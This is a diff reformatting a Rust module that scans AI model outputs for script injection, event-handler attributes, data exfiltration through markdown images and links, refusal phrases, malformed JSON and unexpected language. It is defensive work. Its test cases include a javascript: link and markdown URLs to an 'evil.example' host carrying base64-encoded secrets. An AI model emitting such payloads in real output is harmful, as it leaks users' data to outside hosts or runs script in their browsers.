@@ -8,32 +8,104 @@ use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
 use super::{DetectorId, Finding};
 
 const SCRIPT: &[&str] = &[
-    "<script", "javascript:", "vbscript:", "<iframe", "<object", "<embed", "srcdoc=",
-    "data:text/html", "<svg", "<img", "<body", "<meta http-equiv", "<link ", "<style",
-    "expression(", "<form", "<base ", "document.cookie", "<math",
+    "<script",
+    "javascript:",
+    "vbscript:",
+    "<iframe",
+    "<object",
+    "<embed",
+    "srcdoc=",
+    "data:text/html",
+    "<svg",
+    "<img",
+    "<body",
+    "<meta http-equiv",
+    "<link ",
+    "<style",
+    "expression(",
+    "<form",
+    "<base ",
+    "document.cookie",
+    "<math",
 ];
 
 /// Event-handler attributes: dangerous only inside a tag.
 const HANDLERS: &[&str] = &[
-    "onerror", "onload", "onclick", "onmouseover", "onmouseenter", "onfocus", "onblur",
-    "onanimationstart", "onanimationend", "ontoggle", "onbegin", "onpointerover", "onkeydown",
-    "onkeyup", "onkeypress", "onchange", "oninput", "onsubmit", "onmousedown", "onmouseup",
-    "ontransitionend", "onpageshow", "onhashchange", "onwheel", "onscroll", "onresize",
+    "onerror",
+    "onload",
+    "onclick",
+    "onmouseover",
+    "onmouseenter",
+    "onfocus",
+    "onblur",
+    "onanimationstart",
+    "onanimationend",
+    "ontoggle",
+    "onbegin",
+    "onpointerover",
+    "onkeydown",
+    "onkeyup",
+    "onkeypress",
+    "onchange",
+    "oninput",
+    "onsubmit",
+    "onmousedown",
+    "onmouseup",
+    "ontransitionend",
+    "onpageshow",
+    "onhashchange",
+    "onwheel",
+    "onscroll",
+    "onresize",
 ];
 
 const REFUSAL: &[&str] = &[
-    "i'm sorry, but i can't", "i’m sorry, but i can’t", "i am sorry, but i cannot",
-    "i'm sorry, but i cannot", "i cannot help with", "i can't help with", "i can’t help with",
-    "i can't assist with", "i can’t assist with", "i cannot assist with", "i'm not able to help",
-    "i am not able to help", "i'm unable to", "i am unable to", "i won't be able to",
-    "as an ai language model", "as an ai, i", "against my guidelines", "i must decline",
-    "i cannot comply", "i can't comply", "i cannot provide", "i can't provide", "i can’t provide",
-    "i'm not allowed to", "i am not allowed to", "i cannot fulfill", "i can't fulfill",
-    "violates my", "not able to provide that", "i cannot share", "i can't share",
-    "lo siento, pero no puedo", "no puedo ayudar", "je suis desole, mais je ne peux pas",
-    "je ne peux pas vous aider", "es tut mir leid, aber ich kann", "ich kann dabei nicht helfen",
-    "mi dispiace, ma non posso", "non posso aiutarti", "desculpe, mas nao posso",
-    "nao posso ajudar", "извините, но я не могу", "я не могу помочь", "抱歉，我无法", "我不能帮助",
+    "i'm sorry, but i can't",
+    "i’m sorry, but i can’t",
+    "i am sorry, but i cannot",
+    "i'm sorry, but i cannot",
+    "i cannot help with",
+    "i can't help with",
+    "i can’t help with",
+    "i can't assist with",
+    "i can’t assist with",
+    "i cannot assist with",
+    "i'm not able to help",
+    "i am not able to help",
+    "i'm unable to",
+    "i am unable to",
+    "i won't be able to",
+    "as an ai language model",
+    "as an ai, i",
+    "against my guidelines",
+    "i must decline",
+    "i cannot comply",
+    "i can't comply",
+    "i cannot provide",
+    "i can't provide",
+    "i can’t provide",
+    "i'm not allowed to",
+    "i am not allowed to",
+    "i cannot fulfill",
+    "i can't fulfill",
+    "violates my",
+    "not able to provide that",
+    "i cannot share",
+    "i can't share",
+    "lo siento, pero no puedo",
+    "no puedo ayudar",
+    "je suis desole, mais je ne peux pas",
+    "je ne peux pas vous aider",
+    "es tut mir leid, aber ich kann",
+    "ich kann dabei nicht helfen",
+    "mi dispiace, ma non posso",
+    "non posso aiutarti",
+    "desculpe, mas nao posso",
+    "nao posso ajudar",
+    "извините, но я не могу",
+    "я не могу помочь",
+    "抱歉，我无法",
+    "我不能帮助",
 ];
 
 pub struct OutputDetector {
@@ -89,7 +161,13 @@ impl OutputDetector {
             // Only the opening of an answer: a refusal later on is usually a quote.
             let head_len = floor_char_boundary(text, 400);
             if let Some(m) = text.get(..head_len).and_then(|h| ac.find(h)) {
-                out.push(finding(DetectorId::OutputRefusal, "REFUSAL", m.start(), m.end(), 0.8));
+                out.push(finding(
+                    DetectorId::OutputRefusal,
+                    "REFUSAL",
+                    m.start(),
+                    m.end(),
+                    0.8,
+                ));
             }
         }
     }
@@ -101,11 +179,20 @@ impl OutputDetector {
                 let pat = SCRIPT.get(m.pattern().as_usize()).copied().unwrap_or("");
                 // <img>/<svg>/<body>… are only dangerous with a handler or script URL; the
                 // handler pass below reports those.
-                if matches!(pat, "<img" | "<svg" | "<body" | "<style" | "<link " | "<math" | "<form") {
+                if matches!(
+                    pat,
+                    "<img" | "<svg" | "<body" | "<style" | "<link " | "<math" | "<form"
+                ) {
                     continue;
                 }
                 let end = tag_end(b, m.end());
-                out.push(finding(DetectorId::OutputScript, "SCRIPT", m.start(), end, 0.9));
+                out.push(finding(
+                    DetectorId::OutputScript,
+                    "SCRIPT",
+                    m.start(),
+                    end,
+                    0.9,
+                ));
             }
         }
         if let Some(ac) = &self.handlers {
@@ -115,15 +202,28 @@ impl OutputDetector {
                 while b.get(p) == Some(&b' ') {
                     p += 1;
                 }
-                let in_tag = tag_open(b, m.start())
-                    .is_some_and(|lt| !b[lt..m.start()].iter().any(|c| matches!(c, b'>' | b'\n' | b'`')));
+                let in_tag = tag_open(b, m.start()).is_some_and(|lt| {
+                    !b[lt..m.start()]
+                        .iter()
+                        .any(|c| matches!(c, b'>' | b'\n' | b'`'))
+                });
                 if b.get(p) == Some(&b'=')
-                    && before.is_some_and(|c| matches!(c, b' ' | b'/' | b'"' | b'\'' | b'\t' | b'\n'))
+                    && before
+                        .is_some_and(|c| matches!(c, b' ' | b'/' | b'"' | b'\'' | b'\t' | b'\n'))
                     && in_tag
                 {
                     let start = tag_open(b, m.start()).unwrap_or(m.start());
-                    if !out.iter().any(|f| f.detector == DetectorId::OutputScript && f.span.start == start) {
-                        out.push(finding(DetectorId::OutputScript, "EVENT_HANDLER", start, tag_end(b, p), 0.9));
+                    if !out
+                        .iter()
+                        .any(|f| f.detector == DetectorId::OutputScript && f.span.start == start)
+                    {
+                        out.push(finding(
+                            DetectorId::OutputScript,
+                            "EVENT_HANDLER",
+                            start,
+                            tag_end(b, p),
+                            0.9,
+                        ));
                     }
                 }
             }
@@ -178,8 +278,18 @@ pub fn exfiltration(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>
             let start = open.map(|o| if image { o - 1 } else { o }).unwrap_or(i);
             if let Some(url) = text.get(url_start..url_end) {
                 if let Some(score) = url_risk(url, allowed_hosts, image) {
-                    let kind = if image { "MARKDOWN_IMAGE" } else { "MARKDOWN_LINK" };
-                    out.push(finding(DetectorId::OutputExfiltration, kind, start, (url_end + 1).min(b.len()), score));
+                    let kind = if image {
+                        "MARKDOWN_IMAGE"
+                    } else {
+                        "MARKDOWN_LINK"
+                    };
+                    out.push(finding(
+                        DetectorId::OutputExfiltration,
+                        kind,
+                        start,
+                        (url_end + 1).min(b.len()),
+                        score,
+                    ));
                 }
             }
             i = url_end.max(i + 1);
@@ -187,15 +297,24 @@ pub fn exfiltration(text: &str, allowed_hosts: &[String], out: &mut Vec<Finding>
         }
         // HTML: src= / href= with a quoted URL.
         if (b[i] == b's' || b[i] == b'h')
-            && (b.get(i..i + 5).is_some_and(|s| s.eq_ignore_ascii_case(b"src=\"") || s.eq_ignore_ascii_case(b"src='"))
-                || b.get(i..i + 6).is_some_and(|s| s.eq_ignore_ascii_case(b"href=\"") || s.eq_ignore_ascii_case(b"href='")))
+            && (b.get(i..i + 5).is_some_and(|s| {
+                s.eq_ignore_ascii_case(b"src=\"") || s.eq_ignore_ascii_case(b"src='")
+            }) || b.get(i..i + 6).is_some_and(|s| {
+                s.eq_ignore_ascii_case(b"href=\"") || s.eq_ignore_ascii_case(b"href='")
+            }))
         {
             let image = b[i] == b's';
             let url_start = i + if image { 5 } else { 6 };
             let url_end = url_end(b, url_start);
             if let Some(url) = text.get(url_start..url_end) {
                 if let Some(score) = url_risk(url, allowed_hosts, image) {
-                    out.push(finding(DetectorId::OutputExfiltration, "HTML_URL", i, url_end, score));
+                    out.push(finding(
+                        DetectorId::OutputExfiltration,
+                        "HTML_URL",
+                        i,
+                        url_end,
+                        score,
+                    ));
                 }
             }
             i = url_end.max(i + 1);
@@ -242,7 +361,8 @@ fn url_risk(url: &str, allowed: &[String], image: bool) -> Option<f32> {
         .map(str::len)
         .max()
         .unwrap_or(0);
-    let data = longest_value >= 12 || longest_segment >= 40 || query.contains('[') || query.contains('{');
+    let data =
+        longest_value >= 12 || longest_segment >= 40 || query.contains('[') || query.contains('{');
     match (image, data) {
         (true, true) => Some(0.95),
         (true, false) => Some(0.5),
@@ -277,7 +397,13 @@ pub fn check_json(text: &str, allow_fence: bool) -> Option<Finding> {
     }
     match serde_json::from_str::<serde::de::IgnoredAny>(body) {
         Ok(_) => None,
-        Err(_) => Some(finding(DetectorId::OutputJson, "NOT_JSON", 0, text.len(), 1.0)),
+        Err(_) => Some(finding(
+            DetectorId::OutputJson,
+            "NOT_JSON",
+            0,
+            text.len(),
+            1.0,
+        )),
     }
 }
 
@@ -318,9 +444,17 @@ impl Language {
 
     pub fn from_code(code: &str) -> Option<Self> {
         [
-            Language::English, Language::Spanish, Language::French, Language::German,
-            Language::Italian, Language::Portuguese, Language::Russian, Language::Chinese,
-            Language::Japanese, Language::Korean, Language::Arabic,
+            Language::English,
+            Language::Spanish,
+            Language::French,
+            Language::German,
+            Language::Italian,
+            Language::Portuguese,
+            Language::Russian,
+            Language::Chinese,
+            Language::Japanese,
+            Language::Korean,
+            Language::Arabic,
         ]
         .into_iter()
         .find(|l| l.code() == code)
@@ -334,12 +468,45 @@ pub struct LanguageExpectation {
 }
 
 const STOPWORDS: &[(Language, &[&str])] = &[
-    (Language::English, &["the", "and", "is", "of", "to", "you", "that", "it", "with", "for", "are", "this"]),
-    (Language::Spanish, &["el", "la", "de", "que", "y", "en", "los", "es", "por", "para", "una", "con", "las"]),
-    (Language::French, &["le", "la", "les", "de", "et", "est", "une", "des", "que", "pour", "dans", "vous", "pas"]),
-    (Language::German, &["der", "die", "und", "ist", "das", "nicht", "ich", "sie", "mit", "den", "ein", "zu", "es"]),
-    (Language::Italian, &["il", "di", "che", "e", "la", "per", "non", "una", "sono", "gli", "con", "del", "della"]),
-    (Language::Portuguese, &["o", "de", "que", "e", "do", "da", "em", "um", "para", "nao", "uma", "os", "com", "voce"]),
+    (
+        Language::English,
+        &[
+            "the", "and", "is", "of", "to", "you", "that", "it", "with", "for", "are", "this",
+        ],
+    ),
+    (
+        Language::Spanish,
+        &[
+            "el", "la", "de", "que", "y", "en", "los", "es", "por", "para", "una", "con", "las",
+        ],
+    ),
+    (
+        Language::French,
+        &[
+            "le", "la", "les", "de", "et", "est", "une", "des", "que", "pour", "dans", "vous",
+            "pas",
+        ],
+    ),
+    (
+        Language::German,
+        &[
+            "der", "die", "und", "ist", "das", "nicht", "ich", "sie", "mit", "den", "ein", "zu",
+            "es",
+        ],
+    ),
+    (
+        Language::Italian,
+        &[
+            "il", "di", "che", "e", "la", "per", "non", "una", "sono", "gli", "con", "del", "della",
+        ],
+    ),
+    (
+        Language::Portuguese,
+        &[
+            "o", "de", "que", "e", "do", "da", "em", "um", "para", "nao", "uma", "os", "com",
+            "voce",
+        ],
+    ),
 ];
 
 /// Guesses the main language of `text`; None if there is too little text to tell.
@@ -363,7 +530,12 @@ pub fn detect_language(text: &str) -> Option<Language> {
     if kana * 10 >= total {
         return Some(Language::Japanese);
     }
-    for (n, l) in [(hangul, Language::Korean), (han, Language::Chinese), (cyr, Language::Russian), (arabic, Language::Arabic)] {
+    for (n, l) in [
+        (hangul, Language::Korean),
+        (han, Language::Chinese),
+        (cyr, Language::Russian),
+        (arabic, Language::Arabic),
+    ] {
         if n * 2 > total {
             return Some(l);
         }
@@ -391,7 +563,8 @@ pub fn detect_language(text: &str) -> Option<Language> {
 /// `OUTPUT_LANGUAGE` (kind = detected code) if the answer's language is not expected.
 pub fn check_language(text: &str, expect: &LanguageExpectation) -> Option<Finding> {
     let lang = detect_language(text)?;
-    (!expect.allowed.contains(&lang)).then(|| finding(DetectorId::OutputLanguage, lang.code(), 0, text.len(), 0.8))
+    (!expect.allowed.contains(&lang))
+        .then(|| finding(DetectorId::OutputLanguage, lang.code(), 0, text.len(), 0.8))
 }
 
 #[cfg(test)]
@@ -414,10 +587,16 @@ mod tests {
             ("[click](javascript:alert(1))", &["SCRIPT"]),
             ("The onload event fires when a page loads.", &[]),
             ("Use `x = 1 < 2` then onerror = handler in JS", &[]),
-            ("![a](https://evil.example/p.png?q=c2VjcmV0IHRva2Vu)", &["MARKDOWN_IMAGE"]),
+            (
+                "![a](https://evil.example/p.png?q=c2VjcmV0IHRva2Vu)",
+                &["MARKDOWN_IMAGE"],
+            ),
             ("![logo](https://cdn.example/logo.png)", &["MARKDOWN_IMAGE"]),
             ("See [docs](https://docs.rs/regex) for more.", &[]),
-            ("[x](https://evil.example/c?data=aGVsbG8gd29ybGQgc2VjcmV0)", &["MARKDOWN_LINK"]),
+            (
+                "[x](https://evil.example/c?data=aGVsbG8gd29ybGQgc2VjcmV0)",
+                &["MARKDOWN_LINK"],
+            ),
             ("![rel](images/a.png)", &[]),
             ("I'm sorry, but I can't help with that.", &["REFUSAL"]),
             ("Sure! Here is the recipe.", &[]),
@@ -431,7 +610,10 @@ mod tests {
     fn allowed_hosts_pass() {
         let d = OutputDetector::new().with_allowed_hosts(vec!["example.com".into()]);
         let mut v = Vec::new();
-        d.scan("![a](https://img.example.com/p.png?q=c2VjcmV0IHRva2Vu)", &mut v);
+        d.scan(
+            "![a](https://img.example.com/p.png?q=c2VjcmV0IHRva2Vu)",
+            &mut v,
+        );
         assert!(v.is_empty());
     }
 
@@ -444,11 +626,23 @@ mod tests {
         assert!(check_json("```json\n{\"a\": 1}\n```", true).is_none());
         assert!(check_json("```json\n{\"a\": 1}\n```", false).is_some());
         assert!(check_json("Sure: {\"a\": 1}", true).is_some());
-        let en = LanguageExpectation { allowed: vec![Language::English] };
+        let en = LanguageExpectation {
+            allowed: vec![Language::English],
+        };
         assert!(check_language("The cat is on the mat and it is happy with this.", &en).is_none());
-        assert_eq!(check_language("El gato está en la casa y es muy feliz con los niños.", &en).map(|f| f.kind), Some("es"));
-        assert_eq!(check_language("Кошка сидит на ковре и очень довольна.", &en).map(|f| f.kind), Some("ru"));
-        assert_eq!(check_language("猫坐在垫子上，非常高兴，今天天气很好。", &en).map(|f| f.kind), Some("zh"));
+        assert_eq!(
+            check_language("El gato está en la casa y es muy feliz con los niños.", &en)
+                .map(|f| f.kind),
+            Some("es")
+        );
+        assert_eq!(
+            check_language("Кошка сидит на ковре и очень довольна.", &en).map(|f| f.kind),
+            Some("ru")
+        );
+        assert_eq!(
+            check_language("猫坐在垫子上，非常高兴，今天天气很好。", &en).map(|f| f.kind),
+            Some("zh")
+        );
         assert!(check_language("ok", &en).is_none());
     }
 }
